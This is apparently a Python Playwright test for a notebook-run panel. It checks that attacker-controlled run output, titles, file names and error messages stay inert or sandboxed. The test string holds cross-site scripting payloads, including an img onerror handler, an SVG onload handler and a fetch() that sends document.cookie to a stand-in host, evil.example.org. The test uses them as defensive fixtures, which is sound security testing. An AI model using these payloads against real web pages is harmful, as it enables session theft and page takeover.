"""What a run left and is called, of somebody who means harm: text in the panel, or kept apart."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from playwright.sync_api import Browser, expect

from bluecloud import runs
from bluecloud.service import Service
from tests.panel.test_browser import KERNEL_MS, deployed, prefix
from tests.panel.test_browser_runs import RUN_MS
from tests.service.work import notebook

__all__ = ["prefix"]

pytestmark = pytest.mark.browser

# Without a slash, so that it can be a file's name too.
HOSTILE = '<img src=x onerror="window.top.bcOwned=1">'
DRAWN = f"""
import bokeh
from IPython.display import HTML, SVG, Markdown, display
attack = '''{HOSTILE}<script>
const tries = [
  () => {{ top.bcOwned = 2; }},
  () => {{ top.document.title = "owned"; }},
  () => {{ top.bcStolen = document.cookie; }},
  () => {{ localStorage.setItem("bcOwned", "3"); }},
  () => {{ top.location = "about:blank"; }},
  () => {{ fetch("http://evil.example.org/?" + top.document.cookie); }},
  () => {{ new Image().src = "http://evil.example.org/i"; }},
];
let refused = 0;
for (const each of tries) {{ try {{ each(); }} catch {{ refused += 1; }} }}
document.body.dataset.refused = refused;
</script>'''
html = '<div id=a></div>' + attack + '<script>({{"version": "' + bokeh.__version__ + '"}})</script>'
exec_kind = 'application/vnd.holoviews_exec.v0+json'
display({{'text/html': html, exec_kind: '', 'text/plain': ':C'}}, raw=True)
display(HTML(attack), Markdown(attack))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="window.top.bcOwned=4"><rect/></svg>'))
"""
PRINTS = f"""
import pathlib
pathlib.Path('outputs').mkdir(exist_ok=True)
pathlib.Path('outputs').joinpath({HOSTILE!r} + '.csv').write_text(
    'year,{HOSTILE}\\n2000,' + str(n) + '\\n')
print({HOSTILE!r} + ' level:', n + 0.5, 'm')
"""
FAILS = f"assert n < 3, {HOSTILE!r}"
LOOK = """() => [
  window.bcOwned ?? null, window.bcStolen ?? null, localStorage.getItem('bcOwned'), document.title,
  document.querySelectorAll('.bc-Panel :is(img[src="x"], svg[onload], script)').length,
]"""


def test_nothing_that_a_run_brings_does_anything_in_the_window(
    browser: Browser, prefix: Path, tmp_path: Path
) -> None:
    path = tmp_path / "hostile.ipynb"
    path.write_text(json.dumps(notebook(DRAWN, PRINTS, FAILS)))
    with deployed(browser, prefix, tmp_path) as window:
        page = window.page
        before = page.title()
        with Service(window.service, "ada") as service:
            for n in (1, 2, 3):
                runs.submit(
                    path,
                    parameters={"n": n},
                    laboratory="environment",
                    service=service,
                    title=f"{HOSTILE} {n}",
                ).wait(timeout=300)
        window.tab("Runs")
        panel = page.get_by_role("tabpanel", name="Runs", exact=True)
        cards = [
            panel.get_by_role("listitem").filter(
                has=page.get_by_role("heading", name=f"{HOSTILE} {n}", exact=True)
            )
            for n in (1, 2, 3)
        ]
        expect(cards[0].get_by_text("Succeeded in")).to_be_visible(timeout=RUN_MS)
        expect(cards[2].get_by_text(f"AssertionError: {HOSTILE}")).to_be_visible()
        cards[0].get_by_text("Parameters and files").click()
        expect(cards[0].get_by_text(f"{HOSTILE}.csv")).to_be_visible()
        cards[0].get_by_role("button", name="Figures").click()
        frame = cards[0].frame_locator("iframe")
        # It was executed, where it reaches nothing: three things threw, and no others did anything.
        expect(frame.locator("body[data-refused]")).to_be_attached(timeout=KERNEL_MS)
        refused = frame.locator("body").get_attribute("data-refused")
        assert int(refused or 0) >= 3, refused
        for card in cards[:2]:
            card.get_by_role("checkbox", name="Compare").check()
        compared = panel.get_by_role("region", name="Two runs compared")
        number = compared.get_by_role("rowheader", name=f"2000 · {HOSTILE}", exact=True)
        expect(number).to_be_visible(timeout=KERNEL_MS)
        assert page.evaluate(LOOK) == [None, None, None, before, 0]
        assert window.elsewhere == []
